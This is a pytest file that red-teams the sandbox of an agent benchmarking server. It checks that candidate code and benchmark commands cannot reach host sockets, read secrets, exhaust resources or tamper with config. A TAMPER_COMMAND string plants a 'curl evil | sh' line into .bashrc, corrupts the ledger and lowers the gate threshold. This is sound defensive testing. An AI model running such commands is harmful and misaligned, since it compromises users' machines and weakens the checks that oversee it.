"""Red team, sandbox edition: candidates that attack the machine rather than the grader.

Each attack runs as a candidate (`ModelNew`) through the real MCP `run_validation`, in real
sandboxed workers: its forward tries the attack and returns output that fails validation if
the attack worked. The job must not be able to: reach a host Unix socket, read the ledger,
loom.toml, another campaign's files, /etc/shadow or the real home directory, take more memory
than job_memory_bytes, write more than job_disk_bytes. The agent's own commands
(`benchmark_command`) run in the same sandbox family and must not edit LOOM_HOME or $HOME.
"""

from __future__ import annotations

import hashlib
import importlib.util
import shutil
import socket
import sys
from pathlib import Path

import pytest
from mcp import Client

from loom_mcp.config import load_config
from loom_mcp.sandbox import isolation, warm
from loom_mcp.server import build_server

REDTEAM = Path(__file__).parent / "redteam"
MEMORY_LIMIT = 1 << 30
DISK_LIMIT = 64 << 20


@pytest.fixture(scope="module")
def workspace(tmp_path_factory) -> Path:
    root = tmp_path_factory.mktemp("redteam-sandbox")
    shutil.copytree(REDTEAM, root / "redteam")
    (root / "other-campaign").mkdir()
    (root / "other-campaign" / "candidate.py").write_text("# another campaign's candidate\n")
    home = root / "home"
    home.mkdir()
    (home / "loom.toml").write_text(f"job_memory_bytes = {MEMORY_LIMIT}\njob_disk_bytes = {DISK_LIMIT}\n")
    return root


@pytest.fixture
def server(workspace):
    # Function scope: the sandbox's limits come from the config of the server built last.
    built = build_server(load_config(workspace / "home", environ={"LOOM_ALLOWED_ROOTS": str(workspace)}))
    yield built
    warm.discard_all()


def _load(path: Path):
    spec = importlib.util.spec_from_file_location(path.stem, path)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


async def validate(server, workspace: Path, candidate: str) -> dict:
    async with Client(server) as client:
        result = await client.call_tool("run_validation", {
            "task": str(workspace / "redteam" / "task_rmsnorm.py"),
            "candidate": str(workspace / "redteam" / candidate)})
    assert result.is_error is False, result.content
    return result.structured_content


def errors(report: dict) -> dict[str, str]:
    return {f["check"]: f["message"] for f in report["findings"] if f["severity"] == "error"}


def _view() -> bool:
    return bool(isolation.plan(isolation.capabilities(), allow_network=False).get("view"))


needs_view = pytest.mark.skipif(not _view(), reason="no root view on this kernel")


@needs_view
@pytest.mark.anyio
@pytest.mark.slow
async def test_a_candidate_cannot_reach_a_host_unix_socket(server, workspace):
    path = workspace / "host.sock"
    listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    listener.bind(str(path))
    listener.listen(8)
    listener.setblocking(False)
    try:
        attack = _load(workspace / "redteam" / "attack_host_socket.py")
        assert attack.reached()  # outside the sandbox the attack works
        listener.accept()[0].close()
        report = await validate(server, workspace, "attack_host_socket.py")
        with pytest.raises(BlockingIOError):
            listener.accept()  # nobody connected from inside
    finally:
        listener.close()
    assert "validation.mismatch" not in errors(report), report
    assert report["cases_total"] > 0 and report["cases_failed"] == 0, report


@needs_view
@pytest.mark.anyio
async def test_a_candidate_cannot_read_the_ledger_or_other_secrets(server, workspace):
    attack = _load(workspace / "redteam" / "attack_read_ledger.py")
    assert attack.stolen()  # outside the sandbox most of the list is readable
    report = await validate(server, workspace, "attack_read_ledger.py")
    assert "validation.mismatch" not in errors(report), report
    assert report["cases_total"] > 0 and report["cases_failed"] == 0, report


@pytest.mark.anyio
async def test_a_candidate_cannot_take_more_memory_than_its_limit(server, workspace):
    report = await validate(server, workspace, "attack_memory_bomb.py")
    found = errors(report)
    assert "validation.mismatch" not in found, report  # it never got the memory
    if "validation.crash" in found:  # cgroup: the job alone was OOM-killed
        assert "exceeded its memory limit of 1 GiB" in found["validation.crash"], found
    else:  # RLIMIT_DATA: the allocation failed inside the job
        assert report["cases_failed"] == 0, report


@pytest.mark.anyio
async def test_a_candidate_cannot_fill_the_disk(server, workspace):
    report = await validate(server, workspace, "attack_disk_fill.py")
    found = errors(report)
    assert "validation.mismatch" not in found, report
    assert "wrote more than its disk quota" in found.get("validation.crash", ""), found
    jobs = workspace / "home" / "jobs"
    left = sum(p.stat().st_size for p in jobs.rglob("fill.bin"))
    assert left < 16 * DISK_LIMIT


# A command the agent benchmarks, turned against the server: append to loom.toml, rewrite the
# ledger, write into $HOME. It prints its metric either way and how many of those it managed.
TAMPER_COMMAND = """
import json, os, sys
home, user_home, work = sys.argv[1], sys.argv[2], sys.argv[3]
done = []
for path, text in ((os.path.join(home, "loom.toml"), "\\n[gate]\\nmin_gain = -1.0\\n"),
                   (os.path.join(home, "ledger.sqlite3"), "TAMPERED-BY-COMMAND"),
                   (os.path.join(user_home, ".bashrc"), "curl evil | sh\\n")):
    try:
        with open(path, "a") as f:
            f.write(text)
        done.append(path)
    except OSError:
        pass
os.makedirs(os.path.join(work, "build"), exist_ok=True)
with open(os.path.join(work, "build", "out.txt"), "w") as f:
    f.write("built")
print(json.dumps({"tokens_per_s": 1000.0, "breaches": len(done)}))
"""


@needs_view
@pytest.mark.anyio
async def test_benchmark_command_cannot_touch_loom_home_or_home(workspace, monkeypatch, tmp_path):
    user_home = tmp_path / "user-home"
    user_home.mkdir()
    monkeypatch.setenv("HOME", str(user_home))
    home = workspace / "home"
    built = build_server(load_config(home, environ={"LOOM_ALLOWED_ROOTS": str(workspace)}))
    work = workspace / "work"
    work.mkdir(exist_ok=True)
    toml_before = (home / "loom.toml").read_bytes()
    argv = [sys.executable, "-c", TAMPER_COMMAND, str(home), str(user_home), str(work)]
    async with Client(built) as client:
        result = await client.call_tool("benchmark_command", {
            "command": argv, "baseline_command": argv, "metrics": ["tokens_per_s:higher"],
            "runs": 3, "cwd": str(work)})
    assert result.is_error is False, result.content
    assert (home / "loom.toml").read_bytes() == toml_before
    assert b"TAMPERED-BY-COMMAND" not in (home / "ledger.sqlite3").read_bytes()
    assert not (user_home / ".bashrc").exists()
    assert (work / "build" / "out.txt").read_text() == "built"  # its working tree stays writable
    assert hashlib.sha256(toml_before).hexdigest()  # (the config the server started with)


@pytest.mark.anyio
async def test_a_gpu_too_full_for_the_case_is_a_resource_limit_not_a_failed_candidate(server, workspace):
    """A problem whose inputs fill the GPU beside the reference's process: an honest copy of the
    reference would fail every case, so the answer is [RESOURCE_LIMIT] with a way to shrink it.
    (Raising the error on purpose buys a candidate no verdict: the call is refused, not passed.)"""
    (workspace / "redteam" / "gpu_full.py").write_text(
        "import torch\n\n\nclass ModelNew(torch.nn.Module):\n"
        "    def __init__(self, dim: int = 64):\n        super().__init__()\n\n"
        "    def forward(self, x):\n"
        "        raise torch.cuda.OutOfMemoryError('CUDA out of memory. Tried to allocate 4.00 GiB.')\n")
    async with Client(server) as client:
        result = await client.call_tool("run_validation", {
            "task": str(workspace / "redteam" / "task_rmsnorm.py"),
            "candidate": str(workspace / "redteam" / "gpu_full.py")})
    assert result.is_error
    text = result.content[0].text
    assert "[RESOURCE_LIMIT] the GPU ran out of memory" in text and "task_globals" in text, text
